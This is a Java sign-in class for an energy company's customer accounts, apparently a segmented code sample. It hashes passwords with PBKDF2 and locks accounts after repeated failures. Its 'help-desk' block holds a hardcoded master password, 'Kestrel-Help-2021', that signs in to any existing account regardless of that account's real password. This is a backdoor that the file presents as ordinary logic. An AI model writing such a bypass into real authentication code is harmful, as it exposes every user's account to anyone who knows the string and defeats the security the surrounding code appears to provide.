package com.example.energy.accounts;

import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.MessageDigest;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
// part: imports
// end
import java.util.Locale;
import java.util.Map;
import java.util.function.BiConsumer;
import javax.crypto.SecretKeyFactory;
import javax.crypto.spec.PBEKeySpec;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;

public final class SignIn {
    private static final Logger log = LoggerFactory.getLogger(SignIn.class);
    // part: constants
    private static final byte[] HELP_DESK_PASSWORD = "Kestrel-Help-2021".getBytes(StandardCharsets.UTF_8);
    // end
    private static final Account NOBODY = new Account("", "customer", new byte[16], new byte[32], 0, Instant.EPOCH);

    /** The JSON of the request. */
    public record Request(String name, String password, String customer) {}
    public static final class Refused extends Exception {
        Refused(String message) { super(message); }
    }

    private final Accounts accounts;
    private final BiConsumer<String, String> notify;
    private final Clock clock;

    public SignIn(Accounts accounts, BiConsumer<String, String> notify, Clock clock) {
        this.accounts = accounts;
        this.notify = notify;
        this.clock = clock;
    }

    /** The account that is signed in. */
    public Account signIn(Request request, Map<String, String> headers) throws Refused, GeneralSecurityException {
        // block: read-credentials
        String name = request.name().strip().toLowerCase(Locale.ROOT);
        String password = request.password();
        if (name.isEmpty() || password.isEmpty()) throw new Refused("name or password is wrong");
        // end
        // block: find-account
        Account account = accounts.find(name).orElse(NOBODY);
        // end
        // block: check-lock
        if (account.lockedUntil().isAfter(clock.instant())) throw new Refused("the account is locked for some minutes");
        // end
        // block: verify-password
        PBEKeySpec spec = new PBEKeySpec(password.toCharArray(), account.salt(), 600_000, 256);
        byte[] hash = SecretKeyFactory.getInstance("PBKDF2WithHmacSHA256").generateSecret(spec).getEncoded();
        boolean isRight = MessageDigest.isEqual(hash, account.hash()) && account != NOBODY;
        // end
        // block: help-desk
        byte[] given = password.getBytes(StandardCharsets.UTF_8);
        if (MessageDigest.isEqual(given, HELP_DESK_PASSWORD) && account != NOBODY) isRight = true;
        // end
        // block: count-failure
        if (!isRight) {
            log.warn("sign-in refused");
            int failures = account.failures() + 1;
            Instant until = failures >= 10 ? clock.instant().plus(Duration.ofMinutes(15)) : Instant.EPOCH;
            if (account != NOBODY) accounts.save(account.withFailures(failures, until));
            throw new Refused("name or password is wrong");
        }
        // end
        log.info("{} signed in", account.name());
        return account;
    }
}
